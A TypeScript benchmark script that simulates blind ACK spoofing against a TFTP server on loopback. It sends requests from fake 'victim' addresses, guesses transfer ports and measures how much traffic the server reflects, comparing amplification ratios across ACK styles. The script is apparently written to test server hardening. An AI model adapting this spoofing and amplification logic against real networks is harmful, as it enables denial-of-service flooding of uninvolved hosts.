/**
 * The blind spoofer of issue 21 item 1, against any TFTP server on loopback:
 *
 *   bun bench/blind-spoofer.ts --port 69 [--file big] [--trials 5] [--styles lockstep,window,plain]
 *                              [--spoof-ms 3000] [--tail-ms 3000] [--label NAME]
 *
 * Each trial: one ordinary request of the spoofer's own (from 127.0.0.1) shows it one transfer
 * port of the server (its transfer is then ended with an ERROR); from a victim's address
 * (127.0.0.20+, a socket that only counts what reaches it) it sends an RRQ (blksize 1468,
 * windowsize 64) and, every 2 ms for --spoof-ms, an ACK to the port it learned: 0, 1, 2, …
 * ("lockstep") or 0, 64, 128, … ("window", the issue's); "plain" asks blksize 1468 only (a
 * lockstep transfer, as most PXE ROMs make) and ACKs 0, 1, 2, …. The victim counts UDP payload bytes
 * for --spoof-ms + --tail-ms. A "hit" is a trial whose transfer datagrams (not ERRORs) came from
 * the learned port: the blind guess was right.
 *
 * One more trial per style is an oracle (not blind): it aims its ACKs at the port the victim's
 * first reply came from, what a lucky guess gets. Expected ratio of a blind spoofer ≈
 * oracle ratio ÷ (ports a transfer may get) + the ratio of a miss.
 *
 * Prints one JSON line per trial and one summary line per style. Loopback only.
 */
import type { udp } from "bun";

const args = new Map<string, string>();
for (let i = 2; i < process.argv.length; i += 2) args.set(process.argv[i]!.replace(/^--/, ""), process.argv[i + 1] ?? "");
const PORT = Number(args.get("port") ?? 69);
const FILE = args.get("file") ?? "big";
const TRIALS = Number(args.get("trials") ?? 5);
const STYLES = (args.get("styles") ?? "lockstep,window,plain").split(",");
const SPOOF_MS = Number(args.get("spoof-ms") ?? 3000);
const TAIL_MS = Number(args.get("tail-ms") ?? 3000);
const LABEL = args.get("label") ?? `port ${PORT}`;
const ACK_EVERY_MS = 2;

interface Got {
  data: Uint8Array;
  port: number;
}

async function open(hostname: string, onData: (g: Got) => void): Promise<udp.Socket<"uint8array">> {
  return Bun.udpSocket({ hostname, binaryType: "uint8array", socket: { data: (_s, data, port) => onData({ data: new Uint8Array(data), port }), error() {} } });
}

const send = (s: udp.Socket<"uint8array">, data: Uint8Array, port: number) => {
  try {
    s.send(data, port, "127.0.0.1");
  } catch {
    // ICMP from an earlier send
  }
};

function rrq(file: string, options: [string, string][]): Uint8Array {
  const parts = [file, "octet", ...options.flat()];
  const bytes = [0, 1];
  for (const p of parts) bytes.push(...new TextEncoder().encode(p), 0);
  return new Uint8Array(bytes);
}
const ack = (block: number) => new Uint8Array([0, 4, (block >> 8) & 0xff, block & 0xff]);

async function learnPort(): Promise<number | undefined> {
  let reply: Got | undefined;
  const own = await open("127.0.0.1", (g) => (reply ??= g));
  try {
    send(own, rrq(FILE, []), PORT);
    for (let t = 0; t < 300 && !reply; t++) await Bun.sleep(10);
    if (reply) send(own, new Uint8Array([0, 5, 0, 0, 0]), reply.port); // end its own transfer
    return reply?.port;
  } finally {
    await Bun.sleep(20);
    own.close();
  }
}

async function trial(victimAddress: string, style: string, oracle: boolean) {
  const learned = oracle ? undefined : await learnPort();
  let victimBytes = 0;
  let datagrams = 0;
  const transferPorts = new Set<number>();
  let first: number | undefined;
  const victim = await open(victimAddress, (g) => {
    victimBytes += g.data.length;
    datagrams++;
    if (g.data[1] !== 5) transferPorts.add(g.port);
    first ??= g.port;
  });
  let spooferBytes = 0;
  const spoof = (d: Uint8Array, port: number) => {
    spooferBytes += d.length;
    send(victim, d, port);
  };
  spoof(rrq(FILE, style === "plain" ? [["blksize", "1468"]] : [["blksize", "1468"], ["windowsize", "64"]]), PORT);
  await Bun.sleep(20);
  const until = Date.now() + SPOOF_MS;
  for (let n = 0; Date.now() < until; n++) {
    const target = oracle ? first : learned;
    if (target !== undefined) spoof(ack((style === "window" ? n * 64 : n) & 0xffff), target);
    await Bun.sleep(ACK_EVERY_MS);
  }
  await Bun.sleep(TAIL_MS);
  victim.close();
  const hit = oracle || (learned !== undefined && transferPorts.has(learned));
  return { server: LABEL, style, oracle, victim: victimAddress, learned, transferPorts: [...transferPorts], spooferBytes, victimBytes, datagrams, ratio: +(victimBytes / spooferBytes).toFixed(2), hit };
}

let v = 20;
for (const style of STYLES) {
  const blind: Awaited<ReturnType<typeof trial>>[] = [];
  for (let i = 0; i < TRIALS; i++) {
    const t = await trial(`127.0.0.${v++}`, style, false);
    blind.push(t);
    console.log(JSON.stringify(t));
  }
  const o = await trial(`127.0.0.${v++}`, style, true);
  console.log(JSON.stringify(o));
  const sum = (k: "spooferBytes" | "victimBytes") => blind.reduce((a, t) => a + t[k], 0);
  const misses = blind.filter((t) => !t.hit);
  const missRatio = misses.length ? misses.reduce((a, t) => a + t.victimBytes, 0) / misses.reduce((a, t) => a + t.spooferBytes, 0) : NaN;
  console.log(
    JSON.stringify({
      summary: true,
      server: LABEL,
      style,
      trials: blind.length,
      hits: blind.filter((t) => t.hit).length,
      blindRatio: +(sum("victimBytes") / sum("spooferBytes")).toFixed(2),
      missRatio: +missRatio.toFixed(2),
      maxTrialRatio: Math.max(...blind.map((t) => t.ratio)),
      oracleRatio: o.ratio,
    }),
  );
}
process.exit(0);
